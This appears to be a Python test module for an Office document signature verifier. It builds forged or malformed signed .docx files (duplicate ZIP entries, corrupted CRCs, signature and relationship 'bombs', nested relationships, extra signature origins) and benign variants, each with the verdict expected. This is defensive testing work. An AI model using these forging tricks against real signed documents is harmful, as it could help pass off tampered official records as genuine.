def _rebuilt_loudly(pairs: list[tuple[str, bytes]], folder: Path) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return rebuilt(pairs, folder / "forged.docx")


@attack(Conclusion.UNREADABLE, "opc-part-name")
def duplicate_entry_percent_encoded(victim: Victim, folder: Path) -> Path:
    return _rebuilt_loudly([*_pairs(victim), ("word/%64ocument.xml", contents(victim.other)[MAIN])], folder)


@attack(Conclusion.UNREADABLE, "zip-duplicate")
def content_types_in_other_case(victim: Victim, folder: Path) -> Path:
    return _rebuilt_loudly([*_pairs(victim), ("[content_types].xml", contents(victim.other)[TYPES])], folder)


@attack(Conclusion.UNREADABLE, "opc-content-types")
def content_type_declared_twice(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, types=_with_override("/WORD/document.xml", _WORDML + "template.main+xml"))


@attack(Conclusion.UNREADABLE, "opc-part-name")
def interleaved_pieces(victim: Victim, folder: Path) -> Path:
    pieces = [(f"{MAIN}/[0].piece", b"<x>"), (f"{MAIN}/[1].last.piece", b"</x>")]
    return _rebuilt_loudly([*_pairs(victim), *pieces], folder)


@attack(Conclusion.UNREADABLE, "opc-part-name")
def part_below_a_part(victim: Victim, folder: Path) -> Path:
    return _rebuilt_loudly([*_pairs(victim), (f"{MAIN}/evil.xml", b"<x/>")], folder)


@attack(Conclusion.UNREADABLE, "zip-data-damaged")
def metadata_damaged(victim: Victim, folder: Path) -> Path:
    """An unsigned part does not unpack, so that programs would repair the file."""
    with zipfile.ZipFile(victim.signed) as archive:
        info = archive.getinfo("docProps/core.xml")
    data = bytearray(victim.signed.read_bytes())
    wrong = struct.pack("<L", info.CRC ^ 1)
    central = data.rindex(struct.pack("<L", info.CRC))
    data[info.header_offset + 14 : info.header_offset + 18] = data[central : central + 4] = wrong
    (folder / "forged.docx").write_bytes(data)
    return folder / "forged.docx"


@attack(Conclusion.UNREADABLE, "opc-too-many-signatures")
def bomb_of_signatures(victim: Victim, folder: Path) -> Path:
    """Thirty-three signature parts, each of which would be parsed."""
    entries = contents(victim.signed)
    links, types = "", ""
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/signature"
    for number in range(2, 34):
        entries[f"_xmlsignatures/sig{number}.xml"] = entries[SIGNATURE]
        links += f'<Relationship Id="x{number}" Type="{kind}" Target="sig{number}.xml"/>'
        types += (
            f'<Override PartName="/_xmlsignatures/sig{number}.xml" '
            'ContentType="application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml"/>'
        )
    name = "_xmlsignatures/_rels/origin.sigs.rels"
    entries[name] = replacing("</Relationships>", links + "</Relationships>")(entries[name])
    entries[TYPES] = replacing("</Types>", types + "</Types>")(entries[TYPES])
    return rebuilt(entries, folder / "forged.docx")


@attack(Conclusion.UNREADABLE, "zip-too-large")
def bomb_of_relationships(victim: Victim, folder: Path) -> Path:
    return changed(victim.signed, folder / "forged.docx", {"word/_rels/settings.xml.rels": b" " * (17 << 20)})


# Relationships play tricks.


@attack(Conclusion.UNREADABLE, "opc-relationships")
def relationship_id_twice(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, main_rels=_with_relationship("rId1", _OFFICE + "styles", "evil.xml"))


@attack(Conclusion.UNREADABLE, "opc-relationships")
def relationship_inside_a_relationship(victim: Victim, folder: Path) -> Path:
    nested = f'><Relationship Id="rIdN" Type="{_OFFICE}styles" Target="evil.xml"/></Relationship><Relationship '
    return _edit(folder, victim, main_rels=replacing("/><Relationship ", nested))


@attack(Conclusion.UNREADABLE, "opc-relationships")
def relationship_in_foreign_element(victim: Victim, folder: Path) -> Path:
    alternate = '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"/>'
    return _edit(folder, victim, main_rels=replacing("</Relationships>", alternate + "</Relationships>"))


@attack(Conclusion.UNREADABLE, "opc-signature-origin")
def second_origin(victim: Victim, folder: Path) -> Path:
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"
    return _edit(folder, victim, root_rels=_with_relationship("rIdO", kind, "_xmlsignatures/origin.sigs"))


# No attacks: what a genuine file may undergo.


@genuine("ooxml-metadata-uncovered")
def core_properties_changed(victim: Victim, folder: Path) -> Path:
    return changed(
        victim.signed,
        folder / "forged.docx",
        {"docProps/core.xml": lambda content: re.sub(rb"<dc:creator>[^<]*", b"<dc:creator>Someone else", content)},
    )


@genuine("ooxml-metadata-uncovered")
def packed_anew(victim: Victim, folder: Path) -> Path:
    return rebuilt(contents(victim.signed), folder / "forged.docx")


@genuine("ooxml-metadata-uncovered")
def signed_again(victim: Victim, folder: Path) -> Path:
    sign(victim.signed, folder / "forged.docx", victim.colleague)
    return folder / "forged.docx"


def _zip_victim(workshop: Workshop) -> zip_tricks.Victim:
    victim = workshop.once(make_victim)
    return zip_tricks.Victim(victim.signed.read_bytes(), victim.other.read_bytes(), MAIN)


ATTACKS += zip_tricks.attacks("ooxml", ".docx", _zip_victim)


def make_victim(pki: Pki, folder: Path) -> Victim:
    """The files of a victim in a folder."""

    def document(name: str, text: str) -> Path:
        made = docx.Document()
        made.add_paragraph(text)
        made.part.relate_to("https://phongdien.example/", _LINK, is_external=True)
        made.save(str(folder / name))
        return folder / name

    plain = document("plain.docx", "Quyết định phê duyệt kế hoạch")
    without_styles = changed(
        plain,
        folder / "without-styles.docx",
        {
            "word/styles.xml": None,
            TYPES: lambda content: content.replace(b"/word/styles.xml", b"/word/absent.xml"),
            MAIN_RELS: lambda content: content.replace(b"styles.xml", b"fontTable.xml"),
        },
    )
    book = openpyxl.Workbook()
    book.active["A1"] = "Dự toán"
    book.save(folder / "plain.xlsx")
    credential = pki.credential("leader")
    for source, target in (
        (plain, "signed.docx"),
        (without_styles, "bare.docx"),
        (folder / "plain.xlsx", "signed.xlsx"),
    ):
        sign(source, folder / target, credential, scope=Scope.OFFICE)
    return Victim(
        plain=plain,
        signed=folder / "signed.docx",
        bare=folder / "bare.docx",
        sheet=folder / "signed.xlsx",
        other=document("other.docx", "Quyết định bãi bỏ kế hoạch"),
        credential=credential,
        stranger=pki.credential("leader", stranger=True),
        colleague=pki.credential("second"),
    )
